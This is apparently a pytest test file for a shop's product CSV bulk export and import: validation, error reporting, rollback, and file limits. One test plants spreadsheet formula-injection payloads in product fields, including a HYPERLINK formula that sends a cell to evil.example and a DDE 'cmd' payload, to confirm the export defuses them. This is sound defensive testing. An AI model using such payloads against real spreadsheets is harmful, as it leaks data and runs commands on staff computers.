"""CSV export and import of products for bulk edits: a round trip, updates matched by slug,
every bad line reported with its number and reason, and nothing written when any row is bad;
hostile files (wrong shape, bad prices, unknown suppliers, huge) refused clearly."""

from __future__ import annotations

import csv
import io

import pytest
from quart.datastructures import FileStorage
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from shared.contracts.errors import CsvImportRefused
from shared.infrastructure.context import services
from shared.infrastructure.factory import RoseQuart
from shared.models import PriceChange, Product
from tests.identity.factories import signed_in
from tests.market import factories
from tests.market.factories import BROWSER, token_of
from tests.support.settings import AppMaker

HEADER = "slug,title,price,stock,supplier,categories,available\n"


@pytest.fixture
async def app(make_app: AppMaker) -> RoseQuart:
    return await make_app("market")


@pytest.fixture
async def stocked(db: AsyncSession) -> None:
    await factories.supplier(db, "Dairy", slug="dairy")
    await factories.category(db, "Cheese", slug="cheese")
    await factories.product(db, "Cheddar", 500, slug="cheddar", supplier="dairy", stock=4)
    await factories.product(db, "Brie", 650, slug="brie", supplier="dairy")
    await db.commit()


async def snapshot(db: AsyncSession) -> list[tuple[object, ...]]:
    rows = await db.execute(
        select(Product.slug, Product.title, Product.price_minor, Product.stock).order_by(Product.id)
    )
    return [tuple(r) for r in rows]


def upload(text: str | bytes, name: str = "products.csv") -> dict[str, FileStorage]:
    data = text.encode() if isinstance(text, str) else text
    return {"file": FileStorage(io.BytesIO(data), filename=name, content_type="text/csv")}


async def test_export_then_import_round_trips_unchanged(db: AsyncSession, stocked: None) -> None:
    text = await services().catalog.export_products_csv(db)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["slug"], r["price"], r["stock"], r["supplier"]) for r in rows] == [
        ("cheddar", "5.00", "4", "dairy"),
        ("brie", "6.50", "", "dairy"),
    ]
    before = await snapshot(db)
    report = await services().catalog.import_products_csv(db, text)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
    assert await snapshot(db) == before


async def test_cells_a_supplier_planted_are_not_formulas_and_round_trip(
    app: RoseQuart, db: AsyncSession
) -> None:
    """A supplier's site the scraper reads chooses titles and summaries: none of them is run
    by the spreadsheet staff open the export in, and importing the export changes nothing."""
    planted = {
        "title": '=HYPERLINK("http://evil.example/?"&A2,"Cheddar")',
        "summary": "+cmd|' /C calc'!A0",
        "sku": "-2+3",
        "unit": "@SUM(1)",
    }
    await factories.product(db, slug="planted", **planted)  # type: ignore[arg-type]
    await factories.product(db, "'=kept as typed", slug="quoted", summary="'plain")
    await db.commit()
    editor = await signed_in(app, db, "csv_planted", "editor")
    resp = await editor.get("/editor/products/export.csv")
    exported = await resp.get_data(as_text=True)
    rows = {r["slug"]: r for r in csv.DictReader(io.StringIO(exported, newline=""))}
    for column, value in planted.items():
        assert rows["planted"][column] == "'" + value, column
    assert rows["quoted"]["title"] == "''=kept as typed"
    assert rows["quoted"]["summary"] == "'plain"
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    before = await db.execute(select(Product.title, Product.summary, Product.sku, Product.unit))
    report = await services().catalog.import_products_csv(db, exported)
    assert (report.created, report.updated) == (0, 0)
    after = await db.execute(select(Product.title, Product.summary, Product.sku, Product.unit))
    assert sorted(map(tuple, after)) == sorted(map(tuple, before))


async def test_import_updates_by_slug_creates_the_rest_and_keeps_history(
    db: AsyncSession, stocked: None
) -> None:
    text = HEADER + (
        "cheddar,Mature cheddar,5.50,10,dairy,cheese,yes\n"
        ",Goat's cheese,£7,,dairy,cheese,yes\n"
        'brie,Brie,6.50,,dairy,"",no\n'
    )
    report = await services().catalog.import_products_csv(db, text, actor_user_id=None)
    assert (report.created, report.updated, report.unchanged) == (1, 2, 0)
    cheddar = await services().catalog.product_by_slug(db, "cheddar")
    assert (cheddar.title, cheddar.price.amount_minor, cheddar.stock) == ("Mature cheddar", 550, 10)
    assert [c.slug for c in cheddar.categories] == ["cheese"]
    goat = await services().catalog.product_by_slug(db, "goat-s-cheese")
    assert (goat.price.amount_minor, goat.stock) == (700, None)
    assert not (await services().catalog.product_by_slug(db, "brie")).available
    sources = list(
        await db.scalars(
            select(PriceChange.source).where(PriceChange.product_id.in_([cheddar.id, goat.id]))
        )
    )
    assert sorted(sources) == ["csv", "csv", "staff"]


async def test_one_bad_row_changes_nothing_and_every_bad_line_is_reported(
    db: AsyncSession, stocked: None
) -> None:
    before = await snapshot(db)
    history = await db.scalar(select(func.count()).select_from(PriceChange))
    text = HEADER + (
        "cheddar,Cheddar,9.99,1,dairy,cheese,yes\n"  # good: must not be applied
        ",Butter,1.2.3,,dairy,,yes\n"  # line 3: bad price
        ",Cream,2.00,,nobody,,yes\n"  # line 4: unknown supplier
        ",Milk,0.80,lots,dairy,,maybe\n"  # line 5: bad stock and flag
        ",Yoghurt,1.00,,dairy,nothing,yes\n"  # line 6: unknown category
        '"multi\nline",,1.00,,,,\n'  # line 7-8: no title, bad slug
        "cheddar,Again,1.00,,,,\n"  # line 9: the slug twice
        "short,row\n"  # line 10: wrong number of cells
    )
    with pytest.raises(CsvImportRefused) as refused:
        await services().catalog.import_products_csv(db, text)
    lines = {row.line: row.message for row in refused.value.rows}
    assert sorted(lines) == [3, 4, 5, 6, 7, 9, 10]
    assert "price '1.2.3'" in lines[3]
    assert "nobody" in lines[4]
    assert "stock 'lots'" in lines[5]
    assert "'maybe' is not yes or no" in lines[5]
    assert "nothing" in lines[6]
    assert "line 2" in lines[9]
    assert "2 cells" in lines[10]
    await db.rollback()
    assert await snapshot(db) == before
    assert await db.scalar(select(func.count()).select_from(PriceChange)) == history


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "empty"),
        ("title,price,colour\nA,1.00,red\n", "unknown column"),
        ("title,title,price\nA,A,1\n", "appear twice"),
        ("slug,title\nx,A\n", "price are required"),
        ("title,price\n", "no products"),
        ("title,price\nA,1\x00\n", "NUL"),
        ('title,price\n"unclosed,1\n', "unreadable"),
        ("title,price\n" + "Loaf,1.00\n" * 5_001, "More than 5000"),
        ("title,price\nA," + "9" * 20 + "\n", "not an amount"),
        ("title,price\nA,-1\n", "not an amount"),
        ("title,price\nA,1000000.01\n", "not an amount"),
    ],
)
async def test_hostile_files_are_refused_clearly(db: AsyncSession, text: str, reason: str) -> None:
    with pytest.raises(CsvImportRefused) as refused:
        await services().catalog.import_products_csv(db, text)
    everything = refused.value.message + " ".join(r.message for r in refused.value.rows)
    assert reason in everything
    await db.rollback()
    assert await db.scalar(select(func.count()).select_from(Product)) == 0


async def test_staff_export_and_import_through_the_desk(
    app: RoseQuart, db: AsyncSession, stocked: None
) -> None:
    editor = await signed_in(app, db, "csv_editor", "editor")
    resp = await editor.get("/editor/products/export.csv")
    assert resp.status_code == 200
    assert resp.mimetype == "text/csv"
    assert "attachment" in resp.headers["Content-Disposition"]
    exported = await resp.get_data(as_text=True)
    assert exported.startswith("slug,title,summary,description")

    token = await token_of(editor, "/editor/products/import")
    changed = exported.replace("Cheddar", "Farmhouse cheddar")
    resp = await editor.post(
        "/editor/products/import", form={"csrf_token": token}, files=upload(changed)
    )
    html = await resp.get_data(as_text=True)
    assert resp.status_code == 200, html
    assert 'data-created="0" data-updated="1"' in html
    assert (await services().catalog.product_by_slug(db, "cheddar")).title == "Farmhouse cheddar"

    before = await snapshot(db)
    bad = HEADER + "cheddar,Cheddar,3.00,,dairy,,yes\n,Whey,free,,dairy,,yes\n"
    resp = await editor.post(
        "/editor/products/import", form={"csrf_token": token}, files=upload(bad)
    )
    html = await resp.get_data(as_text=True)
    assert resp.status_code == 400
    assert '<tr data-line="3"><td>3</td><td>price &#39;free&#39;' in html
    assert await snapshot(db) == before
    for files, reason in (
        (upload(b"\xff\xfe not utf-8"), "not UTF-8"),
        (upload(b"title,price\n" + b"x" * (2 * 1024 * 1024 + 10)), "larger than 2 MB"),
        ({}, "Choose a CSV file"),
    ):
        resp = await editor.post("/editor/products/import", form={"csrf_token": token}, files=files)
        assert resp.status_code == 400
        assert reason in await resp.get_data(as_text=True)
    assert await snapshot(db) == before
    assert (await editor.get("/editor/products/import", headers=BROWSER)).status_code == 200
